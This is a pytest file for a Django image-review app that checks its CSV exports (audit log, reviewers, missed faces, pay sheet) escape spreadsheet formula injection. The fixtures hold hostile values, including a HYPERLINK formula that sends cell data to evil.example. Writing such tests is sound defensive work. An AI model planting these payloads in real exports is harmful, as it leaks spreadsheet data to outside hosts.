"""Every CSV Veil serves, fed names a spreadsheet would run as formulas: each such cell comes out as text."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from reviewer.imaging.spreadsheet import FORMULA_STARTS
from reviewer.models import Image
from reviewer.services.audit import audit_record
from reviewer.services.snapshots import snapshots_write
from tests.factories import (
    ApprovalFactory,
    ApprovedBoxFactory,
    DatasetFactory,
    DetectionRunFactory,
    ImageFactory,
    UserFactory,
    make_review,
)

pytestmark = pytest.mark.django_db

DATASET = '=HYPERLINK("http://evil.example/?"&A1,"open")'
REVIEWER = "-2+3"  # a valid username, and a formula
IMAGE = "@SUM(A1).jpg"


def cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode())))


def evaluated(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run: starting with a formula character and not a plain number."""
    found = []
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                try:
                    float(cell)
                except ValueError:
                    found.append(cell)
    return found


@pytest.fixture
def hostile(admin_user):
    dataset = DatasetFactory(name=DATASET)
    run = DetectionRunFactory(dataset=dataset)
    dataset.current_detection_run = run
    dataset.save()
    reviewer = UserFactory(username=REVIEWER)
    image = ImageFactory(dataset=dataset, status=Image.Status.APPROVED, relative_path=IMAGE)
    ApprovedBoxFactory(approval=ApprovalFactory(image=image), x0=40, y0=20, x1=50, y1=30)  # no proposal: missed
    make_review(image, reviewer, (40, 20, 50, 30), seconds_spent=4)
    audit_record(actor=reviewer, verb="review.submitted", obj=image, note="=1+1")
    snapshots_write()
    return dataset


def test_every_csv_endpoint_writes_formula_cells_as_text(admin_client, hostile):
    today = timezone.localdate()
    responses = {
        "audit log": admin_client.get(reverse("audit-csv")),
        "reviewers": admin_client.get(reverse("dashboard-reviewers", args=[hostile.pk]) + "?format=csv"),
        "missed faces": admin_client.get(reverse("dashboard-missed", args=[hostile.pk]) + "?format=csv"),
        "pay sheet": admin_client.get(
            reverse("crowd-admin-paysheet", args=[hostile.pk]), {"start": str(today), "end": str(today)}
        ),
    }
    seen = {}
    for name, response in responses.items():
        assert response.status_code == 200, name
        assert response["Content-Type"].startswith("text/csv"), name
        body = b"".join(response.streaming_content) if response.streaming else response.content
        rows = cells(body)
        assert evaluated(rows) == [], name
        seen[name] = {cell for row in rows for cell in row}
    assert {"'" + REVIEWER, "'" + DATASET} <= seen["audit log"]
    assert "'" + REVIEWER in seen["reviewers"]
    assert "'" + IMAGE in seen["missed faces"]
    assert "'" + REVIEWER in seen["pay sheet"]
